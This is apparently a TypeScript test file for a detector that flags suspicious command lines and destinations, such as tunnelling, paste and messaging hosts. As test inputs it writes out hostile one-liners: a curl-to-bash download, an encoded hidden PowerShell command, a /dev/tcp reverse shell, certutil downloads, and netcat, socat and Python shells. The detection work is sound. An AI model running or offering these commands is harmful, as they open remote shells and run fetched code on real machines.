// The pure judges of command lines and destination names (shared/), on
// literal strings: what is tagged, what is not, and the data file's checks.

import { bindShellReason, buildDestinationTable, hostNamesIn, isPublicAddress, judgeCommandLine, judgeDestinations, knowledgeBase, TAG, urlsIn } from "@oddwire/shared";
import t from "tap";

const kb = knowledgeBase();
const codes = (cmd: string, binary = cmd.split(" ")[0]!) => judgeCommandLine(cmd, binary, kb).map((x) => x.code);

t.test("public addresses", async (t) => {
  for (const a of ["8.8.8.8", "192.0.2.1", "203.0.113.9", "2001:db8::1", "::ffff:198.51.100.7"]) t.ok(isPublicAddress(a), a);
  for (const a of ["10.1.2.3", "172.16.0.1", "192.168.1.1", "127.0.0.1", "169.254.169.254", "100.64.0.1", "::1", "fe80::1", "fd00::1", "224.0.0.1", "0.0.0.0", ""])
    t.notOk(isPublicAddress(a), a);
});

t.test("command lines that download, decode, pipe or open /dev/tcp", async (t) => {
  t.same(codes("curl -s http://192.0.2.10/x.sh | bash"), [TAG.SUSPICIOUS_COMMAND]);
  t.match(judgeCommandLine("curl -s http://192.0.2.10/x.sh | bash", "curl", kb)[0]!.reason, /bare public IP.*pipes what it fetches straight into an interpreter \(\| bash\)/);
  t.same(codes("wget -q https://example.org/k -O /dev/shm/k"), [TAG.SUSPICIOUS_COMMAND]);
  t.same(codes("powershell.exe -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoA"), [TAG.SUSPICIOUS_COMMAND]);
  t.same(codes("bash -c bash -i >& /dev/tcp/192.0.2.44/4444 0>&1"), [TAG.SUSPICIOUS_COMMAND]);
  t.same(codes("certutil.exe -urlcache -split -f https://example.org/a.exe a.exe"), [TAG.SUSPICIOUS_COMMAND]);
  t.same(codes("curl https://pastebin.com/raw/abc"), [TAG.SUSPICIOUS_DESTINATION]);
});

t.test("ordinary command lines are not tagged", async (t) => {
  for (const cmd of [
    "curl -fsS https://status.example.com/ping",
    "curl -L https://github.com/cli/cli/releases/download/v2.40.0/gh.zip -o gh.zip",
    "wget http://10.1.2.3/internal.tar.gz",
    "powershell.exe -ExecutionPolicy Bypass -File C:\\scripts\\x.ps1",
    "apt-get install -y curl",
    "ssh deploy@10.1.5.5",
  ]) {
    t.same(codes(cmd), [], cmd);
  }
});

t.test("bind shells", async (t) => {
  t.match(bindShellReason("nc -lvnp 4444 -e /bin/sh", "tool"), /bind shell/);
  t.match(bindShellReason("socat TCP-LISTEN:5555,reuseaddr,fork EXEC:/bin/bash", "tool"), /bind shell/);
  t.match(bindShellReason("python3 -c import socket;s=socket.socket();s.bind(('',9001))", "interpreter"), /one-liner/);
  t.equal(bindShellReason("nc -l 8080", "tool"), undefined);
  t.equal(bindShellReason("nc 10.0.0.1 80 -e /bin/sh", "tool"), undefined, "a reverse shell does not listen");
  t.equal(bindShellReason("python3 /srv/app/server.py", "interpreter"), undefined);
});

t.test("destination names", async (t) => {
  t.same(urlsIn("curl http://[2001:db8::1]:8080/x and https://Example.org/a"), [
    { url: "http://[2001:db8::1]:8080/x", host: "2001:db8::1" },
    { url: "https://Example.org/a", host: "example.org" },
  ]);
  t.same(hostNamesIn("ssh -N -R 80:localhost:8080 nokey@serveo.net settings.json"), ["serveo.net", "settings.json"]);
  const tags = judgeDestinations(["abc.ngrok.io", "API.telegram.org"], { binary: "svc.exe" }, kb);
  t.equal(tags.length, 1, "one tag, every category in its reason");
  t.match(tags[0]!.reason, /abc\.ngrok\.io, a tunnelling service.*api\.telegram\.org, a messaging or notes API/);
  t.same(judgeDestinations(["abc.ngrok.io"], { binary: "ngrok" }, kb), [], "ngrok's own agent on ngrok is ordinary");
  t.same(judgeDestinations(["pastebin.com"], { binary: "firefox" }, kb), [], "a browser on a paste site is ordinary");
  t.same(judgeDestinations(["notpastebin.com", "example.org"], { binary: "curl" }, kb), [], "only whole labels match");
  t.throws(() => buildDestinationTable({ categories: { a: { what: "x", allowedFor: [], suffixes: ["Bad Name"] } } }), { code: "ODW_ERR_DATA" });
  t.throws(() => buildDestinationTable({ categories: { a: { what: "x", allowedFor: [], suffixes: ["a.com"] }, b: { what: "y", allowedFor: [], suffixes: ["a.com"] } } }), {
    message: 'destinations.json: "a.com" is in both "a" and "b"',
  });
});
